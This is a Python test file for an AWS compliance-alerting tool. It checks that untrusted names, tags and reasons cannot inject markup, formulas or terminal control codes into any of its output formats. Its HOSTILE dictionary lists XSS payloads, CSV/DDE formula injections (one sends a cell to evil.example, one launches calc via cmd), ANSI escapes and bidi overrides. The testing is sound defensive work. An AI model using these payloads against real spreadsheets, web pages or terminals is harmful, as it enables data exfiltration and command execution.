"""What strangers write (names, tags, reasons) is shown by every face, and moves, runs and forges nothing in any.

A face is a function of a text to what is shown. Whatever the text, a face has the lines that it has for a plain word,
and nothing that a terminal obeys; those with a grammar of their own (HTML, CSV, JSON, Markdown) are read by it too.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import datetime, timezone
from html.parser import HTMLParser
from typing import Any

import pytest
from rich.console import Console

from handlers.alerting import ocsf
from handlers.alerting.entry import Entry
from handlers.alerting.incoming import Rules, read
from handlers.alerting.mail import compose
from handlers.alerting.triage import NEW
from handlers.findings import table_of
from handlers.lib.finding import Finding
from handlers.lib.silence import MUTED, Silence
from handlers.lib.text import well_formed
from handlers.reporting.documents import COLUMNS, Table, line_of_finding, open_finding
from handlers.reporting.page.document import page
from renderer.deploy.lines import say
from renderer.replay import Row as ReplayRow
from renderer.replay import print_table
from renderer.review import review
from renderer.review.faces import to_json, to_markdown, to_text
from renderer.review.faces.html import to_html
from tests.unit.handlers.builders import T1, finding, row
from tests.unit.handlers.reporting.page.test_document import Reader
from tests.unit.handlers.reporting.reports import digest, report

NOW = datetime(2026, 11, 24, 4, tzinfo=timezone.utc)

HOSTILE = {
    "a script": "</script><script>alert(1)</script>",
    "an image": '"><img src=x onerror=alert(1)>',
    "an entity": "&lt;b&gt;",
    "a heading of its own": "name\n\nNothing is wrong\n----------------",
    "a line separator": "name\u2028Nothing is wrong\x85and over",
    "a carriage return": "name\rEverything complies",
    "colours and a cleared screen": "\x1b[2J\x1b[32mok\x1b]0;title\x07",
    "an eight-bit control": "\x9b2Jgone\x9d0;t\x9c",
    "a backspace": "bad\b\b\bgood",
    "reversed": "\u202eexe.fdp\u202c",
    "isolated": "\u2066\u2067abc\u2069",
    "a null": "a\x00b",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "a formula behind a tab": "\t+cmd|' /C calc'!A0",
    "a formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Markdown": "`</details>` ![x](http://evil.example) | @everyone **bold**",
    "rich's markup": "[bold red]x[/] [link=http://evil.example]y[/link]",
    "a template": "{{7*7}} ${AWS::AccountId} %s {0}",
    "half a pair": "\ud800",
    "very long": "x" * 20_000,
}


def told(text: str) -> Finding:
    """A finding, as the alerts read it, in which all that strangers write is the text."""
    # What a finding is told apart by is refused where no name of AWS is like it.
    name = well_formed(text)[:100]
    sent = finding(
        resource_id=name,
        resource_name=f"{text} ",
        resource_arn=f"arn:{text}",
        reason=text,
        rule=name,
        stack=text,
        tags={"Owner": text, "CostCenter": text, text: text},
        allowed=text,
    )
    received = read(sent.to_message(), Rules("prod"))
    assert isinstance(received, Finding)
    return received


def mail(text: str) -> str:
    message = compose([Entry(told(text), NEW, T1, 1)], "prod", "s3://bucket/key").message
    return str(json.loads(message)["email"])


def subject(text: str) -> str:
    return compose([Entry(told(text), NEW, T1, 1)], "prod", "s3://bucket/key").subject


def messages(text: str) -> str:
    """What SNS gives to machines."""
    return str(json.loads(compose([Entry(told(text), NEW, T1, 1)], "prod", "s3://bucket/key").message)["default"])


def evidence(text: str) -> str:
    return json.dumps(ocsf.event(row(finding=told(text)), "opens", True, NOW, 0))


def table(text: str) -> str:
    silence = Silence(MUTED, f"arn:aws:iam::1:user/{text}", text, "2026-12-01", T1)
    return table_of([row(finding=told(text), silence=silence)], NOW)


def spreadsheet(text: str) -> str:
    file = io.StringIO(newline="")
    table_file = Table(file)
    table_file.add(dict.fromkeys(COLUMNS, text))
    table_file.add(line_of_finding(open_finding(row(finding=told(text))), "2026-11-24T04:00:00.000Z"))
    return file.getvalue()


def html(text: str) -> str:
    document: dict[str, Any] = report(findings=1)
    document["open_findings"] = [open_finding(row(finding=told(text)))]
    document["exemptions"][0].update(resource=text, reason=text, approved_by=text)
    document["drift"]["stacks"][0]["name"] = text
    return page(document, digest(document))


def reviewed(text: str) -> Any:
    old = {"Resources": {"T": {"Type": "AWS::SNS::Topic", "Properties": {"DisplayName": "before"}}}}
    topic = {"Type": "AWS::SNS::Topic", "Properties": {"DisplayName": text, "TopicName": text}}
    return review(old, {"Resources": {"T": topic}})


def review_page(text: str) -> str:
    return to_html(reviewed(text))


def printed(show: Callable[[], object], capsys: pytest.CaptureFixture[str]) -> str:
    show()
    return capsys.readouterr().out


FACES: dict[str, Callable[[str], str]] = {
    "mail": mail,
    "subject": subject,
    "evidence": evidence,
    "findings": table,
    "CSV": spreadsheet,
    "HTML": html,
    "review as text": lambda text: to_text(reviewed(text)),
    "review in colour": lambda text: re.sub(r"\x1b\[[0-9;]*m", "", to_text(reviewed(text), colour=True)),
    "review as Markdown": lambda text: to_markdown(reviewed(text)),
    "review as JSON": lambda text: to_json(reviewed(text)),
}
# Control characters, and those that turn the direction of what follows; of the spaces only the line feed may stay.
OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def lines(shown: str) -> int:
    """The lines that stand for themselves: of a value with lines, a review shows what differs, further in."""
    return sum(1 for line in shown.splitlines() if line and not line.startswith("    "))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
@pytest.mark.parametrize("face", FACES.values(), ids=list(FACES))
def test_no_text_moves_the_cursor_or_makes_a_line_of_its_own(face: Callable[[str], str], text: str) -> None:
    shown = face(text)
    assert OBEYED.findall(shown.replace("\r\n", "\n")) == []
    assert lines(shown) == lines(face("name"))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_no_text_speaks_through_a_replay(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    recorded = ReplayRow("file", "required-tags", "AWS::S3::Bucket", text, "NON_COMPLIANT", text)
    shown = printed(lambda: print_table([recorded], show_all=True), capsys)
    assert OBEYED.findall(shown) == []
    assert all(line[0] in "┏┃┡│└├" for line in shown.splitlines()[:-1])


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_no_text_speaks_through_a_deployment(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    shown = printed(lambda: say(Console(width=100), text.encode("utf-8", "replace").decode()), capsys)
    assert OBEYED.findall(shown) == []


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_no_text_becomes_an_element_of_the_page(text: str) -> None:
    # Long names may break after a colon: that element is ours, and holds nothing.
    plain, shown = ([one for one in Reader(html(name)).elements if one != ("wbr", {})] for name in ("name", text))
    assert [tag for tag, _ in shown] == [tag for tag, _ in plain]


class Tags(HTMLParser):
    """The elements of a page, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_no_text_becomes_an_element_of_a_reviews_page(text: str) -> None:
    plain, shown = (review_page(one) for one in ("name", text))
    assert OBEYED.findall(shown.replace("\t", " ")) == []
    # What differs between the lines of a value is more of what there is: rows, and never another kind.
    active = ("a", "form", "iframe", "img", "input", "link", "meta", "object", "script", "style", "svg")
    assert [Tags(shown).found.count(tag) for tag in active] == [Tags(plain).found.count(tag) for tag in active]


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_no_text_becomes_a_formula_or_another_cell(text: str) -> None:
    rows = list(csv.reader(io.StringIO(spreadsheet(text), newline="")))
    assert [len(one) for one in rows] == [len(COLUMNS)] * 3
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cells in rows[1:] for cell in cells)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_the_faces_for_machines_say_the_text_itself(text: str) -> None:
    name = well_formed(text)[:50]
    assert json.loads(evidence(text))["resources"][0]["uid"].startswith(f"arn:{name}")
    assert json.loads(messages(text))["findings"][0]["resource_id"].startswith(name)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=list(HOSTILE))
def test_all_that_leaves_can_be_written_in_utf_8(text: str) -> None:
    for face in (*FACES.values(), messages, review_page):
        face(text).encode()
